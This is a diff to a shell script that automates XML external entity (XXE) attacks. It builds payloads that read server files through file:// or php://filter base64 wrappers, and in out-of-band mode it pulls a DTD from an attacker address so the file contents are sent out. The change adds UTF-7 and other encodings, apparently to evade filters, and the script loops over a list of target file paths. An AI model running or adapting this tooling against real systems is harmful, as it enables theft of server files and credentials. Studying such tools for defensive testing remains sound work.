@@ -18,7 +18,6 @@ document() {
 	none) place=file://$1 ;;
 	base64) place=php://filter/read=convert.base64-encode/resource=$1 ;;
 	esac
-	echo "<?xml version=\"1.0\" encoding=\"$ENCODING\"?>"
 	if [ "$TASK" = out-of-band ]; then
 		echo "<!DOCTYPE subscription [<!ENTITY % $ENTITY $outside \"$place\"><!ENTITY % dtd $outside \"http://$ATTACKER_ADDRESS/more.dtd\">%dtd;%send;]>"
 		echo "<subscription><name>$ENTITY</name><email>$ENTITY@$SITE.test</email></subscription>"
@@ -26,6 +25,15 @@ document() {
 		echo "<!DOCTYPE subscription [<!ENTITY $ENTITY $outside \"$place\">]>"
 		echo "<subscription><name>&$ENTITY;</name><email>$ENTITY@$SITE.test</email></subscription>"
 	fi
+}
+
+# encode DECLARATION DOCUMENT
+encode() {
+	case $ENCODING in
+	# the parser knows UTF-7 only by a declaration that it can read
+	utf-7) echo "$1" && echo "$2" | iconv -f utf-8 -t utf-7 ;;
+	*) printf '%s\n' "$1" "$2" | iconv -f utf-8 -t "$ENCODING" ;;
+	esac
 }
 
 # send FILE: prints the answer
@@ -50,7 +58,7 @@ first=none
 taken=0
 while read -r path; do
 	sleep "$PAUSE"
-	document "$path" | iconv -f utf-8 -t "$ENCODING" >sent
+	encode "<?xml version=\"1.0\" encoding=\"$ENCODING\"?>" "$(document "$path")" >sent
 	send sent >answer
 	if [ "$TASK" = out-of-band ] && [ "$FAILURE" != no-dtd ]; then
 		# The server writes in order: after this, what the page has asked for is in its log.
